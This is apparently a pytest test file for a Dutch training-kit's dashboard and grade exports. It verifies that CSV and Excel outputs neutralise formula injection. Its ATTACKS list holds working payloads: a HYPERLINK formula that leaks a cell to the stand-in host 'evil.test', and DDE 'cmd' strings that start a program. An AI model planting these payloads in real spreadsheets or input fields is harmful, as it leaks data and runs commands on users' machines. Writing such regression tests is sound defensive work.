"""CSV and Excel formula injection (issue 11, finding 7), carried out on every export path.

A trainee's name and organisation are typed by people outside the kit (the welcome
form, a cohort import). The red team used ``=HYPERLINK(...)``, ``+cmd|...`` and
``@SUM(...)``: they went raw into the CSV and into the xlsx as live formulas.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import pytest
from openpyxl import load_workbook

from pgkit import cohort as C
from pgkit.dashboard_export import to_csv, to_xlsx
from pgkit.store import people, session_scope, upgrade
from pgkit.store.models import Region

ATTACKS = [
    '=HYPERLINK("http://evil.test/?d="&A2,"Klik hier")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HEADERS = ["Naam", "Organisatie", "Gem. quizscore (%)"]
COLUMNS = ["naam", "organisatie", "gem_quizscore"]
RECORDS = [{"naam": a, "organisatie": a, "gem_quizscore": -12.5} for a in ATTACKS]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_neutralises_every_formula_start() -> None:
    rows = _csv_cells(to_csv(HEADERS, COLUMNS, RECORDS))
    for attack, row in zip(ATTACKS, rows[1:], strict=True):
        assert row[0] == row[1] == "'" + attack
        assert not row[0].startswith(DANGEROUS)
    # A real number stays a number, even a negative one: it is no text to neutralise.
    assert rows[1][2] == "-12,5"


def test_xlsx_holds_text_cells_and_no_formula(tmp_path) -> None:
    path = tmp_path / "dashboard.xlsx"
    path.write_bytes(to_xlsx(HEADERS, COLUMNS, RECORDS))
    ws = load_workbook(path).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    names = [row[0] for row in ws.iter_rows(min_row=2)]
    for attack, cell in zip(ATTACKS, names, strict=True):
        # XML reads a stored carriage return back as a line feed.
        assert cell.data_type == "s" and cell.value == attack.replace("\r", "\n")
        assert cell.quotePrefix  # Excel's own "this is text" mark
    assert ws["C2"].value == -12.5 and ws["C2"].data_type == "n"


@pytest.fixture
def hostile_store(tmp_path) -> str:
    url = f"sqlite:///{tmp_path / 'kit.sqlite'}"
    upgrade(url)
    with session_scope(url) as s:
        cohort = people.ensure_cohort(s, "=Venlo 1", Region.NOORD)
        for i, attack in enumerate(ATTACKS):
            org = people.ensure_organisation(s, attack)
            p = people.ensure_person(s, f"p{i}", attack, organisation_id=org.id)
            people.enrol(s, cohort, p)
    return url


def test_cohort_progress_cli_csv_is_neutralised(hostile_store: str) -> None:
    done = subprocess.run([sys.executable, "-m", "pgkit.cli", "cohort", "progress", "=Venlo 1",
                           "--db", hostile_store, "--format", "csv"],
                          capture_output=True, text=True, encoding="utf-8")
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout, newline=""), delimiter=";"))
    assert len(rows) == 1 + len(ATTACKS)
    for row in rows:
        assert not any(cell.startswith(DANGEROUS) for cell in row), row


def test_dashboard_exports_of_a_hostile_cohort(hostile_store: str, tmp_path) -> None:
    """The real pipeline: store → dashboard rows → both files, trainee table and overview."""
    with session_scope(hostile_store) as s:
        rows = C.trainees(s, C.OPERATOR)
        overview = C.cohort_overview(s, C.OPERATOR)
    columns = C.TraineeProgress.columns()
    headers = [C.column_label(c) for c in columns]
    records = [r.as_dict() for r in rows]
    tables = [(headers, columns, records), C.overview_export(overview)]
    for i, (h, c, r) in enumerate(tables):
        for row in _csv_cells(to_csv(h, c, r)):
            assert not any(cell.startswith(DANGEROUS) for cell in row), row
        path = tmp_path / f"{i}.xlsx"
        path.write_bytes(to_xlsx(h, c, r))
        for row in load_workbook(path).active.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_grade_export_cells_are_neutralised_and_dutch() -> None:
    """``pgkit grade export``: a coach's name comes from nbgrader's student list."""
    from pgkit.export_format import to_csv as format_csv
    from pgkit.grading.lifecycle import EXPORT_COLUMNS, export_table

    rows = [{**dict.fromkeys(EXPORT_COLUMNS), "assignment": "implementatieplan",
             "student_id": "coach-x", "last_name": attack, "first_name": attack,
             "raw_score": 5.5, "late_submission_penalty": 0.0, "score": 5.5,
             "max_score": 18.0, "status": "nagekeken"} for attack in ATTACKS]
    cells = _csv_cells(format_csv(*export_table(rows)))
    head = cells[0]
    assert head[:4] == ["Opdracht", "Uiterste datum", "Ingeleverd op", "Login"]
    for row in cells[1:]:
        named = dict(zip(head, row, strict=True))
        assert named["Achternaam"][0] == named["Voornaam"][0] == "'"
        assert (named["Score"], named["Maximale score"]) == ("5,5", "18,0")
